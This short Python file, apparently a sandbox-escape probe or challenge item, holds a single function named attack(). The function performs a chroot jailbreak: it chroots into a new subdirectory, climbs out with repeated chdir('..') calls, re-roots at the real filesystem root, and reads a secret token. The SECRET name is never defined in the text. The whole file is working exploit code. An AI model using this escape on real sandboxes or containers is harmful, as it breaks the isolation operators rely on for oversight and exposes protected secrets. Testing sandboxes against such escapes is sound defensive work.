"""Change the root and climb above it. Success: the token."""

import os


def attack():
    os.mkdir("down")
    os.chroot("down")
    for _ in range(50):
        os.chdir("..")
    os.chroot(".")
    return open(SECRET).read()
